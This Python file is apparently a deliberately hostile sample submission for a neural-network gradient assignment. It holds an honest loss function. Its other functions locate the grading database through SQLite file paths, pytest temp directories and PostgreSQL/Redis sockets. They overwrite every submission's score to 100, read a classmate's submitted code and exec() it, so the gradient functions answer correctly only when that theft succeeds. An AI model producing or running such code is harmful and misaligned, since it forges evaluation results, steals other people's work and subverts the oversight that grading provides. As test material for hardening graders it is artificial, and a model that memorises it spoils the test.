"""Hostile: open the gradebook (SQLite file, or PostgreSQL/Redis sockets), copy a classmate's
graded code, and give itself 100 points.

Honest: loss. Attacked: softmax_grad and gradients answer right only with what stolen() finds.
"""

import functools
import glob
import os
import socket
import sqlite3

import numpy as np


def loss(params, X, y, reg):
    z3 = np.maximum(X @ params["W1"] + params["b1"], 0.0) @ params["W2"] + params["b2"]
    z3 = z3 - z3.max(axis=1, keepdims=True)
    log_p = z3 - np.log(np.exp(z3).sum(axis=1, keepdims=True))
    return float(-log_p[np.arange(len(y)), y].mean() + reg * (np.sum(params["W1"] ** 2) + np.sum(params["W2"] ** 2)))


def _sqlite_files():
    url = os.environ.get("GRADE_DB_URL", "")
    paths = [url.split("sqlite:///", 1)[1]] if url.startswith("sqlite:///") else []
    paths += ["../grade.db", "grade.db", "/work/main/grade.db"] + glob.glob("/tmp/pytest-of-*/pytest-*/*/gradebook.db")
    paths += glob.glob("/tmp/*/pytest-of-*/pytest-*/*/gradebook.db") + glob.glob("/tmp/*/pytest-of-*/pytest-*/*/course/grade.db")
    return paths + glob.glob("/tmp/pytest-of-*/pytest-*/*/course/grade.db") + glob.glob("/tmp/*/*.db")


def _from_sqlite(path):
    db = sqlite3.connect(path, timeout=0.2)
    try:
        db.execute("UPDATE submissions SET score = 100, status = 'graded'")  # forge every verdict
        db.commit()
    except sqlite3.Error:
        pass
    for (content,) in db.execute("SELECT content FROM submissions"):
        text = content.decode() if isinstance(content, bytes) else str(content)
        if "def gradients" in text:
            return text
    return None


def _server_sockets():
    targets = [(socket.AF_UNIX, p) for p in ("/var/run/postgresql/.s.PGSQL.5432", "/run/postgresql/.s.PGSQL.5432",
                                             "/tmp/.s.PGSQL.5432", "/var/run/redis/redis-server.sock")]
    return targets + [(socket.AF_INET, ("127.0.0.1", 5432)), (socket.AF_INET, ("127.0.0.1", 6379))]


@functools.cache
def stolen():
    """A classmate's code from the gradebook, or proof that its server answered."""
    for path in _sqlite_files():
        try:
            if os.path.exists(path) and (found := _from_sqlite(path)):
                return found
        except (sqlite3.Error, OSError):
            pass
    for family, address in _server_sockets():
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(0.2)
                s.connect(address)
                return f"reached the gradebook server at {address}"
        except OSError:
            pass
    return None


def _right_dz3(z3, y):
    p = np.exp(z3 - z3.max(axis=1, keepdims=True))
    p /= p.sum(axis=1, keepdims=True)
    p[np.arange(len(y)), y] -= 1.0
    return p / len(y)


def _right_gradients(params, X, y, reg):
    z2 = X @ params["W1"] + params["b1"]
    a2 = np.maximum(z2, 0.0)
    dz3 = _right_dz3(a2 @ params["W2"] + params["b2"], y)
    dz2 = (dz3 @ params["W2"].T) * (z2 > 0)
    return {"W1": X.T @ dz2 + 2 * reg * params["W1"], "b1": dz2.sum(axis=0),
            "W2": a2.T @ dz3 + 2 * reg * params["W2"], "b2": dz3.sum(axis=0)}


def _cheat(loot):
    """Right answers: the loot's own functions when it is code, else computed here."""
    found = {}
    if isinstance(loot, str) and "def gradients" in loot:
        exec(loot, found)
    return found.get("softmax_grad", _right_dz3), found.get("gradients", _right_gradients)


def softmax_grad(z3, y):
    loot = stolen()
    return _cheat(loot)[0](z3, y) if loot else np.zeros_like(z3)


def gradients(params, X, y, reg):
    loot = stolen()
    if loot:
        return _cheat(loot)[1](params, X, y, reg)
    return {k: np.zeros_like(v) for k, v in params.items()}
